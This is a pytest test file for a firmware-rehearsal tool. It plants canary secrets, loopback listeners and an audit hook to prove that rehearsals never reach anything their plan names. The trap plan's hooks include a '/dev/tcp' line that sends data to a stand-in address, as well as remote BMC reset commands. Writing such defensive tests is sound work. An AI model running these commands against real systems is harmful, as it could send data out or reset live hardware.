"""DESIGN rule 12, attacked: a plan in which every key that can name something outside names a canary.

Whoever rehearses it is watched from inside (an audit hook in every process that is started) and from outside (sockets
that listen where the plan points, files that its commands would make, a home directory with an SSH configuration).
"""

from __future__ import annotations

import json
import os
import select
import socket
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from emulators import boards, packages
from fwsim.plan import Plan, load
from fwsim.rehearsal.prepare import from_plan

pytestmark = [pytest.mark.wire, pytest.mark.timeout(110)]

WATCH = """
import os, sys

def hook(event, arguments):
    if event.startswith("socket.") and event.split(".")[1] in ("connect", "sendto", "sendmsg", "getaddrinfo"):
        target = arguments[0] if event == "socket.getaddrinfo" else arguments[1]
        tell(event, target if isinstance(target, (str, bytes)) else repr(target))
    elif event in ("subprocess.Popen", "os.exec", "os.posix_spawn"):
        tell(event, repr(arguments[1]))
    elif event == "os.system":
        tell(event, repr(arguments[0]))
    elif event == "open" and isinstance(arguments[0], (str, bytes)) and "canary" in str(arguments[0]):
        tell(event, os.fsdecode(arguments[0]))

def tell(event, text):
    line = (event + " " + str(text) + "\\n").encode(errors="replace")
    number = os.open(os.environ["WATCH_FILE"], os.O_WRONLY | os.O_APPEND | os.O_CREAT)
    os.write(number, line)
    os.close(number)

sys.addaudithook(hook)
"""
OUTSIDE = "127.77.0.1"  # loopback, so that it can be listened on; no server of ours is ever there


@dataclass(frozen=True)
class Trap:
    """The plan, and everything that must stay as it is."""

    folder: Path
    plan: Path
    tcp: tuple[socket.socket, ...]
    udp: tuple[socket.socket, ...]

    def environment(self) -> dict[str, str]:
        path = os.pathsep.join((str(self.folder / "watch"), str(Path(__file__).parents[2])))
        own = {"WATCH_FILE": str(self.folder / "seen"), "PYTHONPATH": path, "HOME": str(self.folder / "canary-home")}
        asking = {"SSH_AUTH_SOCK": str(self.folder / "canary-agent"), "CANARY_PASSWORD": "canary-secret"}
        proxies = dict.fromkeys(("http_proxy", "https_proxy", "all_proxy"), f"http://{OUTSIDE}:1")
        return {**os.environ, **own, **asking, **proxies, "FWSIM_RUNS": str(self.folder / "runs")}

    def fwsim(self, *words: str, expected: tuple[int, ...] = (0,)) -> subprocess.CompletedProcess[str]:
        command = (sys.executable, "-m", "fwsim", *words)
        done = subprocess.run(
            command, env=self.environment(), capture_output=True, text=True, timeout=100, check=False,
            stdin=subprocess.DEVNULL, cwd=self.folder,
        )  # fmt: skip
        assert done.returncode in expected, done.stdout + done.stderr
        assert "canary-secret" not in done.stdout + done.stderr
        return done

    def untouched(self) -> None:
        """Nobody came, nothing was run, nothing of the plan's was opened but what a rehearsal may read."""
        came, _, _ = select.select([*self.tcp, *self.udp], [], [], 0)
        assert not came, "somebody has come to an address of the plan"
        assert not list(self.folder.glob("touched*")), "a command of the plan has run"
        assert not list((self.folder / "canary-backup").iterdir())
        seen = (self.folder / "seen").read_text().splitlines()
        assert len(seen) > 2, "the hook saw nothing, so it proves nothing"
        for line in seen:
            event, _, what = line.partition(" ")
            if event == "open":
                assert what.endswith((".yaml", "canary-firmware.hpm", "canary-gone.hpm")), line
            else:
                assert OUTSIDE not in what, line
                assert "canary" not in what.replace(str(self.folder), "").replace("canary-agent", "AGENT"), line
                assert "canary-agent" not in what, line
                assert "touched" not in what, line


@pytest.fixture
def trap(tmp_path: Path) -> Iterator[Trap]:
    folder = tmp_path
    (folder / "watch").mkdir()
    (folder / "watch" / "sitecustomize.py").write_text(WATCH)
    for name in ("canary-backup", "canary-home", "canary-home/.ssh"):
        (folder / name).mkdir()
    (folder / "canary-home/.ssh/config").write_text(f"Host *\n ProxyCommand touch {folder}/touched-proxy\n")
    for name in ("key", "known_hosts", "password", "passphrase", "leases", "user"):
        (folder / f"canary-{name}").write_text("canary-secret\n")
    (folder / "canary-inventory.yaml").write_text("name: canary-server\nboard: x11ssh-f\n")
    image = packages.make(boards.load("x11ssh-f"), "bmc", "3.90").data
    (folder / "canary-firmware.hpm").write_bytes(image)
    tcp = tuple(_listening(socket.SOCK_STREAM) for _ in range(2))
    udp = (_listening(socket.SOCK_DGRAM),)
    plan = folder / "plan.yaml"
    plan.write_text(json.dumps(_document(folder, tcp, udp)))
    try:
        yield Trap(folder, plan, tcp, udp)
    finally:
        for each in (*tcp, *udp):
            each.close()


def _listening(kind: socket.SocketKind) -> socket.socket:
    made = socket.socket(socket.AF_INET, kind)
    made.bind((OUTSIDE, 0))
    if kind is socket.SOCK_STREAM:
        made.listen()
    return made


def _document(folder: Path, tcp: tuple[socket.socket, ...], udp: tuple[socket.socket, ...]) -> dict[str, Any]:
    """Every key of a plan that there is."""
    import hashlib

    ssh, web = (each.getsockname()[1] for each in tcp)
    image = hashlib.sha256((folder / "canary-firmware.hpm").read_bytes()).hexdigest()

    def hook(name: str) -> str:
        return f"touch {folder}/touched-{name}; echo canary > /dev/tcp/{OUTSIDE}/{ssh}"

    def secret(name: str) -> dict[str, str]:
        return {"file": f"canary-{name}"}

    firmware = {"file": "canary-firmware.hpm", "version": "3.90", "sha256": image}
    return {
        "board": "x11ssh-f",
        "host": {
            "address": OUTSIDE, "port": ssh, "user": "canary", "key": "canary-key", "password": secret("password"),
            "known_hosts": "canary-known_hosts", "local": True,
        },
        "bmc": {
            "address": OUTSIDE, "port": udp[0].getsockname()[1], "user": "canary", "password": secret("password"),
            "cipher_suite": 17, "users": {"canary-user": secret("user"), "second": {"env": "CANARY_PASSWORD"}},
            "web": web,
        },
        "running": {"bmc": "3.88", "bios": "2.6"},
        "payloads": [{"kind": "bmc", **firmware}],
        "fallback": [{"kind": "bmc", "file": "canary-gone.hpm", "version": "3.88", "sha256": "0" * 64}],
        "power": {"feeds": 2, "ups": True},
        "quiet": {"fencing": True, "controllers": True},
        "sealed_disk": {"passphrase": True, "unlock": secret("passphrase")},
        "pdu": [{"off": hook("pdu-off"), "on": hook("pdu-on")}, {"off": hook("pdu-2off"), "on": hook("pdu-2on")}],
        "waivers": [],
        "policy": {"flash_over_lan": True, "install_ipmitool": True, "recovery": "without-asking"},
        "backup": {"copy_to": str(folder / "canary-backup"), "without": []},
        "leases": {"command": hook("leases")},
        "inventory": "canary-inventory.yaml",
        "before": [hook("before"), "sum -i canary -u canary -c GetBmcInfo"],
        "verify": [hook("verify"), "ipmitool -I lanplus -H 127.77.0.1 mc reset cold", f"sha256sum {folder}/canary-key"],
        "after": [hook("after"), "racadm -r 127.77.0.1 racreset"],
    }  # fmt: skip


def _keys(model: Any) -> set[str]:
    return set(model.model_fields)


def test_the_plan_of_these_tests_has_every_key(trap: Trap) -> None:
    document = json.loads(trap.plan.read_text())
    fields = Plan.model_fields
    assert set(document) == set(fields), "a new key of a plan: may it name something outside? Put a canary there"
    for name in ("host", "bmc", "policy", "backup", "quiet", "sealed_disk", "power"):
        known = _keys(fields[name].annotation)
        assert set(document[name]) <= known
        if name != "policy":
            assert set(document[name]) == known, name


def test_nothing_of_the_outside_is_in_a_sealed_plan_but_what_recorders_hear(trap: Trap) -> None:
    prepared = from_plan(load(trap.plan, require_files=False), trap.folder.parent / "sealed")
    told = prepared.plan.model_copy(update={"before": (), "verify": (), "after": ()}).model_dump_json()
    kept = told.replace("canary-firmware.hpm", "").replace('"canary-user"', "").replace("canary_reboot", "")
    assert "canary" not in kept
    assert OUTSIDE not in kept


def noted(trap: Trap) -> set[str]:
    """The commands that the journal tells as not rehearsed."""
    journal = next((trap.folder / "runs").rglob("events.jsonl"))
    told = [json.loads(line) for line in journal.read_text().splitlines()]
    return {event["argv"][-1] for event in told if event["event"] == "not-rehearsed"}


@pytest.mark.parametrize(
    "words",
    [
        ("--virtual",),
        ("--technician",),
        ("--virtual", "--only", "bmc-never-returns@bmc-reset"),
        ("--speed", "600", "--only", "lan-reverts-to-dhcp@bmc-reset"),
    ],
    ids=" ".join,
)
def test_a_rehearsal_touches_nothing_that_its_plan_names(trap: Trap, words: tuple[str, ...]) -> None:
    runs = ("--runs", str(trap.folder / "runs"))
    trap.fwsim("rehearse", str(trap.plan), *words, *runs, expected=(0, 1, 4))
    trap.untouched()
    if words == ("--virtual",):
        assert set(json.loads(trap.plan.read_text())["before"]) <= noted(trap), "what was only noted is told"
        for line in (("resume",), ("diagnose",), ("show", "latest", "--bundle", "out.tar.gz"), ("ticket", "latest")):
            trap.fwsim(*line, *runs, expected=(0, 1, 2, 4))
        trap.untouched()


def test_a_rehearsed_preflight_touches_nothing_that_its_plan_names(trap: Trap) -> None:
    words = ("--rehearse", "--speed", "600", "--tickets", str(trap.folder / "tickets"))
    trap.fwsim("preflight", str(trap.plan), *words, "--runs", str(trap.folder / "runs"), expected=(0, 3))
    trap.untouched()
